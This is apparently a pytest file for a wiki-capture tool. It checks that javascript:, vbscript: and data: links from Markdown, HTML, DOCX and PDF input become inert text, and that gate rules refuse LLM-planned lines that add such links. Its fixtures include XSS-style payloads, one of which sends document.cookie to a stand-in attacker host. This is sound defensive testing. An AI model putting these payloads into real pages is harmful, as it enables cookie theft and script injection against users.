"""`javascript:` links are inert in every page the product writes (issue 18): in Markdown bullets, and in the
text read from HTML, DOCX and PDF, a link whose scheme is not http, https or mailto (or a relative path)
becomes plain text in the source page and in every wiki page filed from it; safe links stay links."""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path

import pytest
from conftest import REPO_ROOT, run_cli
from markdown_it import MarkdownIt

sys.path.insert(0, str(REPO_ROOT / "scripts"))
from tinypdf import build_pdf, layout  # noqa: E402

HOSTILE = [
    "Harbor Logistics moved 4,000 shipments in April 2026, see [the report](javascript:alert(document.cookie)).",
    "Borealis signed a carrier contract in May 2026 [details](JaVaScRiPt\\:alert(1)).",
    "Aurora Systems opened an office in Leeds in June 2026 ([map](data:text/html;base64,PHNjcmlwdD4=)).",
    "Maria Chen joined the Harbor team in May 2026 [profile][p].",
    "[p]: vbscript:msgbox(1)",
    "Omar Diaz reviewed the Harbor API in July 2026 [x](  <javascript:alert(2)>).",
]
SAFE = "Read [the docs](https://example.com/docs) or [mail us](mailto:team@example.com)."


def _links(text: str) -> list[str]:
    """Every link and image destination a renderer that validates nothing would form from `text`."""
    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    out = []
    stack = list(md.parse(text))
    while stack:
        token = stack.pop()
        stack.extend(token.children or [])
        for attr in ("href", "src"):
            if token.attrs.get(attr):
                out.append(str(token.attrs[attr]))
    return out


def _unsafe(text: str) -> list[str]:
    return [u for u in _links(text) if not u.lower().startswith(("http:", "https:", "mailto:"))
            and ":" in u.split("/")[0]]


def _markdown(tmp_path: Path) -> Path:
    path = tmp_path / "links.md"
    path.write_text("# Partner links\n\n" + "".join(f"- {line}\n" for line in HOSTILE[:4]) + "\n"
                    + HOSTILE[4] + "\n\n" + HOSTILE[5] + "\n\n" + SAFE + "\n")
    return path


def _html(tmp_path: Path) -> Path:
    path = tmp_path / "links.html"
    body = "".join(f"<li>{line}</li>" for line in HOSTILE[:4])
    path.write_text(f"<html><head><title>Partner links</title></head><body><ul>{body}</ul><p>{HOSTILE[4]}</p>"
                    f"<p>{HOSTILE[5]}</p><p><a href=\"javascript:alert(3)\">click</a> {SAFE}</p></body></html>")
    return path


def _docx(tmp_path: Path) -> Path:
    import docx

    document = docx.Document()
    document.add_paragraph("Partner links", style="Title")
    for line in HOSTILE:
        document.add_paragraph(line, style="List Bullet")
    document.add_paragraph(SAFE)
    out = io.BytesIO()
    document.save(out)
    path = tmp_path / "links.docx"
    path.write_bytes(out.getvalue())
    return path


def _pdf(tmp_path: Path) -> Path:
    path = tmp_path / "links.pdf"
    text = "# Partner links\n\n" + "\n\n".join(HOSTILE) + "\n\n" + SAFE
    path.write_bytes(build_pdf(layout(text, wrap=400), title="Partner links", author="A", date="D:20260601000000Z"))
    return path


@pytest.mark.parametrize("make", [_markdown, _html, _docx, _pdf], ids=["markdown", "html", "docx", "pdf"])
def test_unsafe_links_are_inert_in_source_and_wiki_pages(wiki: Path, tmp_path: Path, make) -> None:  # noqa: ANN001
    path = make(tmp_path)
    code, out, err = run_cli(["--json", "capture", str(path)], cwd=wiki)
    assert code == 0, out + err
    captured = json.loads(out)["captures"][0]
    source = (wiki / captured["source_path"]).read_text(encoding="utf-8")
    assert "javascript" in source.lower()  # the text is kept, as text
    assert _unsafe(source) == [], _links(source)
    if make is not _pdf:  # (the PDF layout may wrap a link's text; its destinations are still checked above)
        assert "https://example.com/docs" in _links(source) and "mailto:team@example.com" in _links(source)
    written = [p for p in (wiki / "wiki").rglob("*.md")]
    assert written
    for page in written:
        text = page.read_text(encoding="utf-8")
        assert _unsafe(text) == [], (page, _links(text))


def test_the_check_itself_sees_a_live_link() -> None:
    """The test's renderer does form these links when nothing makes them inert."""
    assert _unsafe("\n\n".join(HOSTILE)) != []
    assert len(_unsafe("- [a](javascript:alert(1))\n- [b](https://ok.example)")) == 1



@pytest.mark.parametrize("link", ["[the sheet](javascript:fetch('//evil.example/'+document.cookie))",
                                  "[the sheet](data:text/html;base64,PHNjcmlwdD4=)", "[s]: vbscript:msgbox(1)"])
def test_the_gates_refuse_a_plan_line_that_adds_a_live_unsafe_link(tmp_path: Path, link: str) -> None:
    """What a planner (an LLM's reply) writes into a wiki page is judged too: a line adding a live link to
    another scheme is refused (contract); the same line with an https link is filed."""
    import subprocess

    from test_gates_support import cited, commit, make_source, op

    from stigmergy.gates.engine import evaluate
    from stigmergy.plan.schema import CreatePage, Plan
    from stigmergy.settings import Settings

    root = tmp_path / "r"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    own = make_source(root, 8, ["Harbor Logistics moved 4,000 shipments in April 2026."])
    commit(root, [own[0]])
    rel = "wiki/notes/Harbor.md"

    def plan(extra: str) -> Plan:
        line = f"- Harbor Logistics moved 4,000 shipments in April 2026, see {extra}. {cited(rel, own, 0)}"
        return Plan((CreatePage("note", "Harbor", f"# Harbor\n\n{line}\n"),))

    verdict = evaluate(plan(link), root, Settings(), op(n=8, source_path=own[0]))
    assert any(v.rule == "contract" and "would be live" in v.message for v in verdict.violations), verdict.violations
    verdict = evaluate(plan("[the sheet](https://sheets.example/q1)"), root, Settings(), op(n=8, source_path=own[0]))
    assert not [v for v in verdict.violations if "would be live" in v.message], verdict.violations
